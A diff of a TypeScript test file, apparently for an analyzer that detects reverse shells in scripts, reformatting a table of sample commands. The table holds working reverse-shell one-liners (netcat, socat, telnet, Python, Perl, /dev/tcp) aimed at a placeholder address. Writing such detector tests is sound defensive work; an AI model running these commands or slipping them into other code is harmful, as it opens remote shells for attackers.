@@ -10,12 +10,21 @@ const reverseShells: Array<[string, string]> = [
   ['nc -e', 'nc -e /bin/sh 203.0.113.4 4444\n'],
   ['ncat -c', 'ncat 203.0.113.4 4444 -c bash\n'],
   ['nc listener (bind shell)', 'nc -lvp 4444 -e /bin/bash\n'],
-  ['mkfifo and nc', 'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.4 4446 > /tmp/f\n'],
+  [
+    'mkfifo and nc',
+    'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.4 4446 > /tmp/f\n',
+  ],
   ['telnet pair', 'telnet 203.0.113.4 80 | /bin/bash | telnet 203.0.113.4 81\n'],
   ['socat exec', "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.4:4447\n"],
   ['socat TCP4 then EXEC', 'socat TCP4:203.0.113.4:4448 EXEC:/bin/sh\n'],
-  ['python one-liner', `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.4",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'\n`],
-  ['perl one-liner', `perl -e 'use Socket;$i="203.0.113.4";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton($i)));exec("/bin/sh -i");'\n`],
+  [
+    'python one-liner',
+    `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.4",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'\n`,
+  ],
+  [
+    'perl one-liner',
+    `perl -e 'use Socket;$i="203.0.113.4";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(1,inet_aton($i)));exec("/bin/sh -i");'\n`,
+  ],
   ['hidden in sh -c', `sh -c 'bash -i >& /dev/tcp/203.0.113.4/9 0>&1'\n`],
   ['hidden in a variable', 'H=203.0.113.4; P=9\nbash -i >& "/dev/tcp/$H/$P" 0>&1\n'],
 ];
@@ -26,12 +35,18 @@ describe('reverse shells', () => {
     const python = r.units.some((u) => u.lang === 'python' && u.origin === 'embedded');
     // The Python one-liner is embedded for the Python analyzer; every other form is found here.
     if (python) return;
-    expect(ofKind(r, 'reverse-shell').length, JSON.stringify(r.behaviours.map((b) => b.kind))).toBeGreaterThan(0);
+    expect(
+      ofKind(r, 'reverse-shell').length,
+      JSON.stringify(r.behaviours.map((b) => b.kind)),
+    ).toBeGreaterThan(0);
   });
 
   it('keeps the endpoint of a /dev/tcp reverse shell', async () => {
     const r = await factsOf('shell', 'bash -i >& /dev/tcp/203.0.113.4/4444 0>&1\n');
-    expect(ofKind(r, 'reverse-shell')[0]?.endpoint).toMatchObject({ host: '203.0.113.4', cls: 'placeholder' });
+    expect(ofKind(r, 'reverse-shell')[0]?.endpoint).toMatchObject({
+      host: '203.0.113.4',
+      cls: 'placeholder',
+    });
   });
 
   it.each([
